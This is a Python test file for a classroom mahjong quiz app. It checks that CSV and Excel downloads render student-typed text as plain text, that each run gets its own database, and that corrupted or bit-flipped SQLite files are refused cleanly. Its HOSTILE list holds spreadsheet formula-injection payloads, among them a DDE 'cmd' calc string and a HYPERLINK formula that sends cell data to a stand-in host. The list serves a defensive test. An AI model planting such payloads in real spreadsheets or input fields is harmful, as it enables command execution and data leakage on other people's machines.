"""What a hostile student or a damaged file can do to the class's records (issue 35).

- The downloads: every visitor text comes out as text, never a spreadsheet formula
  (OWASP "CSV Injection"), in the CSV and in the Excel file.
- One database per server run: unique names, created exclusively, holding a run id
  the kernels check.
- Answers only to the class's own questions (another seed's are refused).
- A damaged database, at open or later, raises HandError and nothing else: values
  written behind the reader's back, and 300 single-bit flips of a real class file.
"""

from __future__ import annotations

import csv
import io
import random
import re
import sqlite3
import time
import zipfile

import pytest

from mjkit import HandError
from mjkit.app import classdb, teacher
from mjkit.app.classdb import ClassDB, StudentRecorder, new_class_db

HOSTILE = ["=1+2", '=HYPERLINK("http://x.invalid/?"&B2,"a")', "+1", "-1+1", "@SUM(A1)",
           "\t=1+2", "\r=1+2", "#N/A", "=cmd|' /C calc'!A0", "＝1+2"]


def _hostile_frame():
    """A frame as ClassDB.frame makes it, with hostile text in every text column."""
    import pandas as pd

    rows = [(text, k + 1 if k % 3 else None, k, text, text, text, text, k % 2 == 0,
             1_700_000_000.0 + k) for k, text in enumerate(HOSTILE)]
    df = pd.DataFrame(rows, columns=["name", "seat", "question", "kind", "hand", "expected",
                                     "given", "correct", "answered_at"])
    df["answered_at"] = pd.to_datetime(df["answered_at"], unit="s", utc=True)
    return df


def _starts_formula(text: str) -> bool:
    return text[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def test_csv_download_writes_visitor_text_as_text():
    df = _hostile_frame()
    text = teacher.results_csv(df).decode("utf-8-sig")
    lines = text.split("\n")
    assert lines[0] == "name,seat,question,kind,hand,expected,given,correct,answered_at"
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert len(rows) == len(HOSTILE)
    for k, (row, original) in enumerate(zip(rows, HOSTILE)):
        for col in (0, 3, 4, 5, 6):                       # every text column
            assert not _starts_formula(row[col]), row[col]
            want = "'" + original if _starts_formula(original) else original
            assert row[col] == want
        assert row[2] == str(k) and row[1] == ("" if k % 3 == 0 else str(k + 1))
    # text quoted, numbers not: the question number is a bare number after the seat
    body = text.split("\n", 1)[1]
    assert body.startswith('"\'=1+2","",0,"\'=1+2",')
    assert re.search(r'^"\'\+1",3,2,', body, re.M)


def test_excel_download_writes_visitor_text_as_text(tmp_path):
    import openpyxl

    df = _hostile_frame()
    data = teacher.results_xlsx(df)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for n in sheets:
            assert not re.search(rb"<(\w+:)?f[ >/]", z.read(n)), n    # no formula element
    ws = openpyxl.load_workbook(io.BytesIO(data))["answers"]
    cells = list(ws.iter_rows())
    assert [c.value for c in cells[0]] == list(df.columns)
    for k, (row, original) in enumerate(zip(cells[1:], HOSTILE)):
        for col in (0, 3, 4, 5, 6):
            # (an XML reader reads a CR as a line feed)
            assert row[col].data_type == "s" and row[col].value == original.replace("\r", "\n")
        assert row[2].data_type == "n" and row[2].value == k            # question: a number
        assert row[1].value == (None if k % 3 == 0 else k + 1)          # seat: a number
        assert row[7].value is (k % 2 == 0)
        assert row[8].is_date
    assert all(c.data_type != "f" for r in cells for c in r)


def test_downloads_of_a_class_with_hostile_names(tmp_path):
    """The same through the database: what a student types reaches the files as text."""
    import openpyxl

    path, run = new_class_db(tmp_path, 5)
    with ClassDB(path, run=run) as db:
        for k, name in enumerate(HOSTILE):
            sid = db.join(f"session-{k:08d}", name, k + 1)
            db.record(sid, 0, "total", "123m", "8", "=1+2", False)
        df = db.frame()
    csv_rows = list(csv.reader(io.StringIO(teacher.results_csv(df).decode("utf-8-sig"))))
    assert all(not _starts_formula(cell) for row in csv_rows for cell in row)
    ws = openpyxl.load_workbook(io.BytesIO(teacher.results_xlsx(df)))["answers"]
    assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)
    names = [r[0].value for r in ws.iter_rows(min_row=2)]
    assert "=1+2" in names and "@SUM(A1)" in names


# --------------------------------------------------------------------- one database per run

def test_each_run_gets_its_own_database(tmp_path):
    a, run_a = new_class_db(tmp_path, 5)
    b, run_b = new_class_db(tmp_path, 5)                 # the same second, folder and seed
    assert a != b and run_a != run_b
    assert re.fullmatch(r"class-\d{8}T\d{6}Z-[0-9a-f]{16}-seed5\.sqlite", a.name)
    assert re.fullmatch(r"[0-9a-f]{32}", run_a)
    with ClassDB(a, run=run_a) as db:
        assert db.run == run_a
        db.join("session-aaaaaaaa", "Ann")
    with pytest.raises(HandError, match="not made by this server run"):
        ClassDB(a, run=run_b)
    with pytest.raises(HandError, match="not made by this server run"):
        StudentRecorder(b, {"name": "Bo", "seat": None, "session": "s" * 20}, run=run_a)
    with pytest.raises(HandError, match="run id"):
        ClassDB(a, run="not-a-run-id")
    with ClassDB(b, run=run_b) as db:                    # Ann is not in the other class
        assert db.summary()["students"] == []


def test_new_database_never_opens_an_existing_file(tmp_path, monkeypatch):
    taken = tmp_path / "class-taken.sqlite"
    taken.write_bytes(b"a teacher's file")
    (tmp_path / "class-link.sqlite").symlink_to(tmp_path / "elsewhere.sqlite")
    names = iter(["class-taken.sqlite", "class-link.sqlite"] + ["class-new.sqlite"] * 20)
    monkeypatch.setattr(classdb, "db_name", lambda seed, now=None, tag="": next(names))
    path, run = new_class_db(tmp_path, 5)
    assert path.name == "class-new.sqlite"
    assert taken.read_bytes() == b"a teacher's file"
    assert not (tmp_path / "elsewhere.sqlite").exists()
    with pytest.raises(HandError, match="no free name"):
        new_class_db(tmp_path, 5)                         # every name taken: refused
    with ClassDB(path, run=run):
        pass


# --------------------------------------------------------------------- the class's questions

def _right(q):
    return {"fans": list(q.fans), "total": q.result.total, "legal": q.result.legal}[q.kind]


def test_recorder_takes_only_the_class_questions(tmp_path):
    from mjkit.quiz import Quiz
    from mjkit.widgets import QuizWidget

    path, run = new_class_db(tmp_path, 5)
    own, other = Quiz(4, seed=5, difficulty="easy"), Quiz(4, seed=7, difficulty="easy")
    assert all(a.hand != b.hand for a, b in zip(own.questions, other.questions))
    rec = StudentRecorder(path, {"name": "Lin", "seat": 2, "session": "s" * 24}, run=run,
                          quiz=own)
    for i, q in enumerate(other.questions):              # another seed's questions
        with pytest.raises(HandError, match="not the class's question"):
            rec(i, q, q.check(_right(q)))
    for bad in (4, -1, True, "0"):                       # not a question of the class
        with pytest.raises(HandError, match="not one of the class's"):
            rec(bad, own.questions[0], own.questions[0].check(_right(own.questions[0])))
    with ClassDB(path) as db:
        assert db.summary()["questions"] == []
    # the widget of a student who set seed 7 says "not recorded" and records nothing
    w = QuizWidget(4, seed=7, difficulty="easy", lang="en", recorder=rec, student=rec.name)
    w.total.value, w.legal.value = 1, "yes"
    w.check()
    assert "not recorded" in w.saved.value
    with ClassDB(path) as db:
        assert db.frame().empty
    for i, q in enumerate(own.questions):                # the class's own: recorded
        rec(i, q, q.check(_right(q)))
    with ClassDB(path) as db:
        df = db.frame()
    assert df["hand"].tolist() == [q.hand for q in own.questions]
    assert df["question"].tolist() == [0, 1, 2, 3] and df["correct"].all()


def test_recorder_without_a_class_quiz_records_as_before(tmp_path):
    from mjkit.quiz import Quiz

    path, run = new_class_db(tmp_path, 5)
    rec = StudentRecorder(path, None, run=run)
    q = Quiz(2, seed=7, difficulty="easy").questions[1]
    rec(1, q, q.check(_right(q)))
    with ClassDB(path) as db:
        assert db.frame()["hand"].tolist() == [q.hand]
    with pytest.raises(HandError, match="Quiz"):
        StudentRecorder(path, None, quiz="seed 5")


# --------------------------------------------------------------------- damaged databases

def _class(tmp_path):
    """A real class: students with and without seats, every kind, right and wrong answers."""
    path, run = new_class_db(tmp_path, 5)
    with ClassDB(path, run=run) as db:
        for k, name in enumerate(["小明", "Ann", "=1+2", "Zoë Ng"]):
            sid = db.join(f"session-{k:08d}-abcdef", name, k + 3 if k % 2 else None)
            for q in range(6):
                kind = ("fans", "total", "legal")[q % 3]
                expected = {"fans": "断幺 平和", "total": "12", "legal": "yes"}[kind]
                given = expected if (q + k) % 2 else {"fans": "平和", "total": "9",
                                                      "legal": "no"}[kind]
                db.record(sid, q, kind, f"23445688m68p567s 7p | self_drawn q{q}", expected,
                          given, given == expected)
    assert not path.with_name(path.name + "-wal").exists()      # checkpointed on close
    return path, run


def _everything(path, run):
    """Open and use ``path`` as the server and the teacher's page do."""
    with ClassDB(path, run=run) as db:
        s = db.summary()
        df = db.frame()
    teacher.summary_json(s, "en")
    teacher.results_csv(df)
    teacher.results_xlsx(df)
    return s, df


@pytest.mark.parametrize("damage", [
    "UPDATE students SET name = CAST(x'ff41' AS TEXT) WHERE id = 1",    # not UTF-8
    "UPDATE answers SET at = 1e300",                                    # beyond any date
    "UPDATE answers SET at = -5e9",
    "UPDATE students SET seat = 'abc'",
    "UPDATE students SET seat = 5000",
    "UPDATE students SET name = '  two  spaces '",
    "UPDATE answers SET kind = 'poker'",
    "UPDATE answers SET question = 100000 WHERE rowid = 1",
    "UPDATE answers SET given = x'00ff'",
    "UPDATE answers SET student = 99 WHERE rowid = 1",
    "DROP TABLE answers",
])
def test_damage_after_opening_raises_hand_error(tmp_path, damage):
    path, run = _class(tmp_path)
    _everything(path, run)
    db = ClassDB(path, run=run)                           # opened, then damaged
    raw = sqlite3.connect(path)
    raw.execute(damage)
    raw.commit()
    raw.close()
    with db:
        with pytest.raises(HandError, match="class database"):
            db.summary()
        with pytest.raises(HandError, match="class database"):
            db.frame()
    with pytest.raises(HandError, match="class database"):
        ClassDB(path, run=run)                            # and refused at open


def _flip(data: bytes, pos: int, bit: int) -> bytes:
    out = bytearray(data)
    out[pos] ^= 1 << bit
    return bytes(out)


def test_bit_flipped_databases_are_refused_or_read_whole(tmp_path):
    path, run = _class(tmp_path)
    _everything(path, run)
    data = path.read_bytes()
    page = 4096
    assert len(data) >= 4 * page
    rng = random.Random(35)
    used = [i for i, b in enumerate(data) if b and i >= page]       # cells of the data pages
    positions = ([rng.randrange(len(data)) for _ in range(100)]
                 + [rng.randrange(page) for _ in range(60)]          # header and schema
                 + [rng.choice(used) for _ in range(140)])
    outcome = {"read": 0, "refused at open": 0, "refused later": 0}
    work = tmp_path / "flipped"
    work.mkdir()
    started = time.monotonic()
    for k, pos in enumerate(positions):
        p = work / f"v{k}.sqlite"
        p.write_bytes(_flip(data, pos, rng.randrange(8)))
        try:
            db = ClassDB(p, run=run)
        except HandError:
            outcome["refused at open"] += 1
            continue
        try:
            with db:
                s, df = db.summary(), db.frame()
            teacher.summary_json(s, "en")
            teacher.results_csv(df)
            teacher.results_xlsx(df)
            outcome["read"] += 1
        except HandError:
            outcome["refused later"] += 1
    assert sum(outcome.values()) == 300
    # most flips of the used bytes are caught at open; flips in free space read whole
    assert outcome["refused at open"] >= 100 and outcome["read"] >= 20, outcome
    assert time.monotonic() - started < 60
